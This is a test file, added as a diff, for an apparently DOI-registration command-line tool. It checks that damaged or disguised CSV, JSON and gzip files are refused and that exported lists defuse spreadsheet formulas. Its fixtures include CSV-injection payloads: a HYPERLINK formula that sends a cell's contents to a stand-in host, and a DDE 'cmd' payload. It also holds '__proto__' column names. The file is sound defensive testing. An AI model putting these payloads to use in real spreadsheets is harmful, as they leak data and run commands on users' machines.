@@ -1,0 +1,197 @@
+// Spreadsheets, arrays and packed files that are damaged, or made to be taken for something else.
+// To add a file that is refused, add a row to REFUSED: its name, its bytes, and what the error says.
+import { readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
+import { describe, expect, it, vi } from 'vitest';
+import { readCsv } from '../../src/text/csv-reader.ts';
+import { emulate } from '../helpers/emulator.ts';
+import { run } from '../helpers/run.ts';
+import { temporaryDirectory } from '../helpers/temporary.ts';
+
+const HEAD = 'doi,titles[0].title\n';
+const ROW = '10.5072/a,One\n';
+const LATIN1 = Buffer.from('10.5072/a,\xe9t\xe9\n', 'latin1');
+
+const REFUSED: readonly (readonly [what: string, name: string, content: string | Buffer, message: RegExp])[] =
+  [
+    [
+      'an open quote',
+      'x.csv',
+      `${HEAD}${ROW}10.5072/b,"Two\n10.5072/c,Three\n`,
+      /x\.csv:3: a cell that begins with a quote has no closing one/,
+    ],
+    ['a quote in a cell', 'x.csv', `${HEAD}10.5072/b,Two "2"\n`, /x\.csv:2: a quote in the middle/],
+    ['text after a quote', 'x.csv', `${HEAD}10.5072/b,"Two"2\n`, /x\.csv:2: a quote in the middle/],
+    [
+      'more cells than heads',
+      'x.csv',
+      `${HEAD}10.5072/b,Two, three\n`,
+      /x\.csv:2: there is text to the right/,
+    ],
+    [
+      'another encoding',
+      'x.csv',
+      Buffer.concat([Buffer.from(HEAD), LATIN1]),
+      /x\.csv is not UTF-8 text\nhint: save it as "CSV UTF-8"/,
+    ],
+    ['UTF-16 without a mark', 'x.csv', Buffer.from(HEAD + ROW, 'utf16le'), /x\.csv is not UTF-8 text/],
+    ['no heads', 'x.csv', ROW, /x\.csv:1: the column "10\.5072\/a" is not known/],
+    ['no rows', 'x.csv', HEAD, /x\.csv holds no record/],
+    ['nothing', 'x.csv', '', /x\.csv is empty/],
+    [
+      'a column twice',
+      'x.csv',
+      `doi,url,url\n10.5072/a,https://a.example,https://b.example\n`,
+      /the columns url and url hold the same values/,
+    ],
+    [
+      'a column of the prototype',
+      'x.csv',
+      'doi,__proto__\n10.5072/a,x\n',
+      /the column "__proto__" is not known/,
+    ],
+    ['a column of the constructor', 'x.csv', 'doi,creators[0].constructor\n10.5072/a,x\n', /is not known/],
+    ['an index without end', 'x.csv', 'doi,titles[99999999].title\n10.5072/a,x\n', /is not known/],
+    ['no DOI', 'x.csv', `${HEAD}not a doi,One\n`, /x\.csv:2: column doi: /],
+    ['a DOI twice', 'x.csv', `${HEAD}${ROW}10.5072/A,Two\n`, /x\.csv:3 has the DOI of line 2/],
+    ['a workbook', 'x.csv', Buffer.from('504b030414000600', 'hex'), /x\.csv(:1| is not UTF-8)/],
+    [
+      'a cut gzip',
+      'x.csv.gz',
+      gzipSync(HEAD + Array.from({ length: 999 }, (_, at) => `10.5072/a${at},One\n`).join('')).subarray(
+        0,
+        -20,
+      ),
+      /cannot unpack .*x\.csv\.gz: it is damaged, or was cut/,
+    ],
+    [
+      'a damaged gzip',
+      'x.json.gz',
+      Buffer.concat([gzipSync('[]').subarray(0, 12), Buffer.alloc(20, 7)]),
+      /cannot unpack/,
+    ],
+    [
+      'a cut array',
+      'x.json',
+      '[\n{"doi":"10.5072/a"},\n{"doi":"10.50',
+      /x\.json:3: the list ends before its closing \]/,
+    ],
+    [
+      'an array without commas',
+      'x.json',
+      '[\n{"doi":"10.5072/a"}\n{"doi":"10.5072/b"}\n]',
+      /x\.json:3: a comma is missing/,
+    ],
+    [
+      'an array with a comma too many',
+      'x.json',
+      '[{"doi":"10.5072/a"},\n]',
+      /x\.json:2: a record is missing after the comma/,
+    ],
+    [
+      'an array and more',
+      'x.json',
+      '[{"doi":"10.5072/a"}]\n{"doi":"10.5072/b"}',
+      /x\.json:2: there is more after the end/,
+    ],
+    ['two arrays', 'x.json', '[{"doi":"10.5072/a"}]\n[]', /x\.json:2: there is more after the end/],
+    [
+      'a line break in a string of an array',
+      'x.json',
+      '[{"doi":"10.5072/a","url":"a\nb"}]',
+      /x\.json:1: a line break within a string/,
+    ],
+    ['brackets that do not match', 'x.json', '[{"doi":"10.5072/a"]]', /x\.json:1\b.*not valid JSON/],
+    ['an array of texts', 'x.json', '["10.5072/a"]', /x\.json:1 holds no JSON object/],
+  ];
+
+describe('a file of records', () => {
+  it.each(REFUSED)('with %s is refused before any request', async (_, name, content, message) => {
+    const folder = temporaryDirectory();
+    const path = join(folder, name);
+    writeFileSync(path, content);
+    vi.stubEnv('TMPDIR', folder);
+    vi.stubEnv('TEMP', folder);
+    const { code, stdout, stderr } = await run(['dois', 'create', '--file', path], {
+      env: {
+        DOI_CLI_BASE_URL: 'http://127.0.0.1:1',
+        DOI_CLI_REPOSITORY: 'A.B',
+        DOI_CLI_PASSWORD: 'correct horse',
+      },
+    });
+    expect([code, stdout, stderr.replaceAll(path, name)]).toEqual([2, '', expect.stringMatching(message)]);
+    expect(stderr).not.toContain('\0');
+    // The copy that is read has gone.
+    expect(readdirSync(folder)).toEqual([name]);
+  });
+
+  it('is not taken for another kind because of its text', async () => {
+    const given = '// one, two; three\n{"doi":"10.5072/a"}\n';
+    const { stderr } = await run(['dois', 'validate', '--file', '-'], { stdin: given });
+    expect(stderr).not.toContain('column');
+    const prose = await run(['dois', 'validate', '--file', '-'], { stdin: 'prefix, 10.5072 and more\n' });
+    expect(prose.stderr + prose.stdout).toMatch(/column|not valid JSON/);
+  });
+
+  it.each(['\n', '\r\n', '\r'])('names lines with line breaks %j as editors do', async (end) => {
+    const text = ['doi,titles[0].title', '10.5072/a,"x', 'y"', '', '10.5072/b,z'].join(end);
+    const lines: number[] = [];
+    async function* bytes() {
+      for (const byte of Buffer.from(text)) yield Buffer.from([byte]);
+    }
+    for await (const { line } of readCsv(bytes(), 'x.csv')) lines.push(line);
+    expect(lines).toEqual([1, 2, 4, 5]);
+  });
+});
+
+describe('a list for a spreadsheet', () => {
+  const FORMULAS = [
+    '=HYPERLINK("http://a.example?"&A1,"x")',
+    "+1+cmd|'/C calc'!A0",
+    '-2+3',
+    '@SUM(1)',
+    '\t=1',
+    '\r=1',
+    ' =1',
+  ];
+
+  it.each(['csv', 'tsv'])('runs no formula of a record as %s', async (format) => {
+    const emulator = await emulate();
+    const stdin = JSON.stringify({
+      doi: '10.5072/formula',
+      titles: FORMULAS.map((title) => ({ title })),
+      creators: FORMULAS.map((name) => ({ name })),
+      subjects: FORMULAS.map((subject) => ({ subject })),
+    });
+    expect((await emulator.run(['dois', 'create', '--file', '-'], { stdin })).code).toBe(0);
+    const { stdout } = await emulator.run(['dois', 'list', '--mine', '--state', 'draft', '--format', format]);
+    const cells: string[] = [];
+    for await (const row of readCsv([Buffer.from(stdout)] as unknown as AsyncIterable<Buffer>, 'x'))
+      cells.push(...row.cells);
+    expect(cells).toContain(`'${FORMULAS[0]}`);
+    expect(cells.filter((cell) => /^\s*[=+@-]/.test(cell) && !/^-?[\d.]+$/.test(cell))).toEqual([]);
+  });
+
+  it('does not lose an item of a list, however many there are', async () => {
+    const emulator = await emulate();
+    const creators = Array.from({ length: 300 }, (_, index) => ({
+      name: `Author ${index}`,
+      affiliation: [{ name: 'A' }, { name: 'B' }],
+    }));
+    const stdin = JSON.stringify({ doi: '10.5072/many', titles: [{ title: 'T' }], creators });
+    await emulator.run(['dois', 'create', '--file', '-'], { stdin });
+    const path = join(temporaryDirectory(), 'many.csv');
+    await emulator.run(['dois', 'list', '--mine', '--state', 'draft', '--out', path]);
+    const { stdout } = await emulator.run(['dois', 'validate', '--file', path, '--format', 'json']);
+    expect(stdout).not.toContain('"severity":"error"');
+    const other = await emulate();
+    const made = await other.run(['dois', 'create', '--file', path]);
+    expect(made.stdout.split('\n')[0]).toMatch(/"10.5072\/many".*"outcome":"created"/);
+    const copy = JSON.parse((await other.run(['dois', 'get', '10.5072/many', '--affiliation'])).stdout) as {
+      attributes: { creators: object[] };
+    };
+    expect(copy.attributes.creators).toHaveLength(300);
+    expect(copy.attributes.creators[299]).toMatchObject(creators[299] as object);
+  });
+});
